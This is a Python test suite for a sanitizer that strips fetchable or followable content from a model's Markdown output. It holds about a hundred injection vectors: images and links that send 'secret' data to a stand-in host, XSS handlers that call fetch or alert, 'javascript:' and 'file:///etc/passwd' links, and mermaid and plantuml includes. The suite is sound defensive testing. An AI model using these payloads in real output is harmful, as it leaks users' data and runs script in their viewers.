"""A model's Markdown as a real viewer reads it: nothing to fetch, nothing to follow, nothing to run."""

from __future__ import annotations

import itertools
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as some
from markdown_it import MarkdownIt

from foretype.postprocess.safe_markdown import SafeMarkdown, safe_markdown

VIEWERS = [
    MarkdownIt("gfm-like", {"html": True}),
    MarkdownIt("commonmark", {"html": True}),
    MarkdownIt("js-default", {"html": True, "linkify": True}),
]
URL = "https://evil.test/?q=secret"

NAMED = {
    "image": f"![a]({URL})",
    "link": f"[a]({URL})",
    "image in a link": f"[![a]({URL})](https://evil.test/2)",
    "image in angle brackets": f"![a](<{URL}>)",
    "image with a title": f'![a]({URL} "title")',
    "image behind white space": f"![a]( \t{URL})",
    "image over two lines": f"![a\nb]({URL})",
    "link with a bracket in it": f"[a\n\\]]({URL})",
    "image by reference": f"![a][ref]\n\n[ref]: {URL}",
    "image by its own reference": f"![ref]\n\n[ref]: {URL}",
    "link by reference": f"[ref][]\n\n[ref]: <{URL}> 'title'",
    "reference on the next line": f"[ref]\n\n[ref]:\n{URL}",
    "reference over two lines": f"[re\nf]\n\n[re\nf]: {URL}",
    "reference in a quotation": f"> [ref]: {URL}\n\n[ref]",
    "footnote": f"text[^1]\n\n[^1]: ![a]({URL})",
    "img": f"<img src={URL}>",
    "img with a handler": f"<img src='{URL}' onerror=alert(1)>",
    "a": f"<a href='{URL}'>a</a>",
    "image in svg": f"<svg><image href='{URL}'/></svg>",
    "svg with a handler": f"<svg/onload=fetch('{URL}')>",
    "style": f"<style>body{{background:url({URL})}}</style>",
    "stylesheet": f"<link rel=stylesheet href={URL}>",
    "iframe": f"<iframe src={URL}></iframe>",
    "script": f"<script src={URL}></script>",
    "refresh": f"<meta http-equiv=refresh content='0;url={URL}'>",
    "video": f"<video poster={URL}>",
    "img behind a comment": f"<!-- --><img src={URL}>",
    "img behind an instruction": f"<?x ?><img src={URL}>",
    "img behind a doctype": f"<!DOCTYPE x><img src={URL}>",
    "img behind cdata": f"<![CDATA[x]]><img src={URL}>",
    "img behind a backslash": f"\\\\<img src={URL}>",
    "link behind a backslash": f"\\\\[a]({URL})",
    "autolink": f"<{URL}>",
    "bare address": URL,
    "address in bold": f"**{URL}**",
    "bare www": "www.evil.test/secret",
    "address without a scheme": "//evil.test/secret",
    "address behind emphasis": "_a_//evil.test/secret _a_www.evil.test _a_evil.com/secret _a_https://evil.test",
    "mail address": "mail secret@evil.test",
    "autolink of mail": "<mailto:secret@evil.test>",
    "ftp": "ftp://evil.test/secret",
    "address behind a backslash": f"\\{URL}",
    "address behind code": f"`code`{URL}`",
    "address behind a lonely backtick": f"`` ` {URL}",
    "address in escaped backticks": f"\\`{URL}`",
    "backslash at the end of code": f"`a\\`{URL}`",
    "code over two cells": f"| a | b |\n|---|---|\n| `x | {URL} | y` |",
    "cells before code": f"| a | b |\n|---|---|\n| {URL}|x | `y |",
    "image in code over cells": f"| a |\n|---|\n| `x ![a]({URL}) | y` |",
    "image behind a block": f"```\ncode\n```\n![a]({URL})",
    "image behind a block of tildes": f"~~~~\n~~~\n~~~~\n![a]({URL})",
    "image behind an inner fence": f"```\ncode\n    ```\n```\n![a]({URL})",
    "image in an indented fence": f"    ```\n![a]({URL})\n    ```",
    "image behind a fence in a list": f"- ```\n  code\n\n![a]({URL})",
    "image behind a fence in a quotation": f"> ```\n> code\n\n![a]({URL})",
    "image behind a fence in a numbered list": f"1. ```\n   code\n   ```\n   ![a]({URL})",
    "image in a fence that is none": f"``` `\n![a]({URL})\n```",
    "image behind a carriage return": f"```md\r![a]({URL})",
    "mermaid": f"```mermaid\ngraph LR\n  A[<img src='{URL}'>]\n  click A '{URL}'\n```",
    "mermaid with options": f"```MERMAID {{init}}\nclick A '{URL}'\n```",
    "plantuml": f"~~~plantuml\n!include {URL}\n~~~",
    "command": "[a](command:workbench.action.terminal.new)",
    "vscode": "[a](vscode://file/etc/passwd)",
    "file": "[a](file:///etc/passwd)",
    "javascript": "[a](javascript:alert(1))",
    "javascript by an entity": "[a](JaVaScRiPt&colon;alert(1))",
    "data": "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "scheme by a number": "![a](&#104;ttps://evil.test/x)",
    "address by a number": "http&#58;//evil.test/x",
    "address by an entity": "http&colon;//evil.test/x",
    "escaped colon": "http\\://evil.test/x",
    "escaped slashes": "https:\\/\\/evil.test/x",
    "hidden character": "ht\u200btps://evil.test/x",
    "embedded page": f"![[{URL}]]",
    "import": f'@import "{URL}"',
    "formula": f"$\\href{{{URL}}}{{a}}$",
    "setext heading": f"Setext {URL}\n===",
    "heading": f"# {URL} #",
    "link between rules": f"* * *\n[a]({URL})\n***",
    "details with a handler": f"<details open ontoggle=fetch('{URL}')>",
    "link over lines": f"[a](\n{URL}\n)",
    "link on the next line": f"[a]\n({URL})",
    "img behind a mail address": f"a@b<img src={URL}>",
    "bare domain": "evil.com",
    "bare file": "a.py",
    "file names in a sentence": "see config.rs:12, setup.sh; README.md.",
    "emphasised domains": "_evil.com_ **evil.com** ~~evil.com~~",
    "domains behind paths": "src/*a.py* src/_evil.com_ src\\-evil.com src\\/evil.com",
    "domains with queries": "evil.com?q=secret evil.com:80 evil.com#secret",
    "countries and punycode": "evil.co.uk EVIL.COM xn--e1afmkfd.xn--p1ai пример.рф",
    "letters of all kinds": "größe.py 😀.py →evil.com ©.py “evil.com”",
    "deep domain": "a.a.a.a.a.a.a.a.a.a.a.evil.com",
    "escaped ends of domains": "a\\_evil.com evil.com\\_a evil.com.*a* evil.com.",
    "addresses inside of names": f"-www.{URL} a_b.{URL} a_b.www.evil.test a_b.x@evil.test e.com.www.(",
    "domains with symbols": "~~~.py $.py a+b.py x=evil.com ^evil.com~~ a~.evil.com",
    "domains before odd punctuation": "e.com\x01 e.com\u0589a \u0589e.com",
    "domains in punctuation": "(evil.com) 'evil.com' @evil.com #evil.com =evil.com C:\\evil.com",
}  # fmt: skip
VECTORS = tuple(NAMED.values())
AROUND = [
    "{}",
    "- {}",
    "> {}",
    "1. a\n\n   {}",
    "`\n{}\n`",
    "<div>\n\n{}\n\n</div>",
    "~~~x\ny\n~~~\n{}",
    "\\{}",
]
TAG = re.compile(r"<[/!?]*(\w*)[^>]*>")
HARMLESS = frozenset(
    (
        *("p", "ul", "ol", "li", "em", "strong", "s", "code", "pre", "blockquote", "hr", "br"),
        *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
    )
)
DRAWN = re.compile(r'class="language-(mermaid|plantuml)')


def fetched(markdown: str) -> list[str]:
    """What a viewer makes of a text beyond words and code."""
    found = []
    for viewer in VIEWERS:
        html = viewer.render(markdown)
        found += [tag[0] for tag in TAG.finditer(html) if tag[1].lower() not in HARMLESS]
        found += DRAWN.findall(html)
    return found


@pytest.mark.parametrize("around", AROUND)
@pytest.mark.parametrize("vector", VECTORS, ids=NAMED)
def test_nothing_can_be_fetched_or_followed(vector: str, around: str) -> None:
    assert fetched(safe_markdown(around.replace("{}", vector))) == []


def test_most_of_the_vectors_would_do_harm() -> None:
    """The viewers of this test see what they are to be kept from."""
    harmful = [vector for vector in VECTORS if fetched(vector)]
    assert len(harmful) >= 60


@pytest.mark.parametrize(("one", "other"), [*itertools.product(VECTORS[::4], VECTORS[::5])])
def test_nor_by_one_piece_opening_what_another_closes(one: str, other: str) -> None:
    assert fetched(safe_markdown(one + other)) == []
    assert fetched(safe_markdown(f"{one}\n{other}")) == []


PIECES = some.sampled_from(
    (
        *("`", "``", "```", "~~~", "\n", "\\", "[", "]", "(", ")", "!", "<", ">", ":", "|", "a", " ", "- "),
        *("    ", "> ", URL, "<img src=x>", "](", "]:", "[a]: ", "![a](", "www.", "&#58;", "//e.test", "\t"),
        *(
            "http",
            "\r",
            "|---|\n",
            "1. ",
            "@",
            ".",
            ".py",
            "e.com",
            "_",
            "-",
            "*",
            "/",
            "\\-",
            "\\_",
            "→",
            "é",
        ),
    )
)


@settings(deadline=None)
@given(some.lists(PIECES, max_size=24).map("".join))
def test_nor_by_any_text_made_of_such_pieces(text: str) -> None:
    assert fetched(safe_markdown(text)) == [], safe_markdown(text)


@settings(deadline=None)
@given(some.lists(PIECES, max_size=12))
def test_a_text_that_arrives_in_pieces_is_the_same(pieces: list[str]) -> None:
    reading = SafeMarkdown()
    assert "".join(map(reading.feed, pieces)) + reading.finish() == safe_markdown("".join(pieces))


@pytest.mark.parametrize(
    "text",
    [
        "Plain *words*, **strong** ones, and `code` with `a < b` and `[x](y)`.",
        "# Title\n\n- one\n- [ ] two\n\n1. three\n\n> quoted\n\n| a | b |\n|---|---|\n| `x` | y |\n",
        "```python\nx = a[0](1)  # http://localhost\nprint('<b>')\n```\n",
        "```\n![a](https://x.test)\n```\n",
        "a < b && c > d, list[0] is x, 3 * 4, snake_case_name, C:\\path",
        "src/a.py, index.js, app.tsx, e.g. this, i.e. that, v1.2.3, 3.14, and so on.",
        "👨\u200d👩\u200d👧 and नमस्\u200dते",
    ],
)
def test_what_does_no_harm_stays_as_it_is(text: str) -> None:
    assert safe_markdown(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (f"see [the docs]({URL}).", f"see [the docs\\]\\(`{URL}`)."),
        (f"see {URL}, and", f"see `{URL}`, and"),
        ("a\u202eb\U000e0041c\x1b[31m", "a⟨U+202E⟩b⟨U+E0041⟩c⟨U+001B⟩[31m"),
        ("List<String> x", "List\\<String> x"),
        ("1. do\n   ```py\n   x\n     y\n   ```\n2. on", "1. do\n```py\nx\n  y\n```\n2. on"),
        ("```py\nx", "```py\nx\n```\n"),
        ("```mermaid\nx\n```", "```text\nx\n```"),
        ("See a.py, config.rs:12 and test_x.sh.", "See `a.py`, `config.rs:12` and `test_x.sh`."),
        ("Sent: a.py:4-6, b.rs:1-", "Sent: `a.py:4-6`, `b.rs:1`-"),
        ("**README.md** and `a.py`", "**`README.md`** and `a.py`"),
        ("| main.rs | it starts |", "| `main.rs` | it starts |"),
    ],
)
def test_the_words_of_what_does_are_shown(text: str, shown: str) -> None:
    assert safe_markdown(text) == shown


@pytest.mark.parametrize(
    "piece", ["`", "<a", "a@", "a.", "http:", "[", "\\", "``` ", "x`", "a.b/", "_a.", "_a.b", "a.py ", "😀"]
)
def test_a_long_line_is_read_once(piece: str) -> None:
    assert safe_markdown(piece * (300_000 // len(piece)))
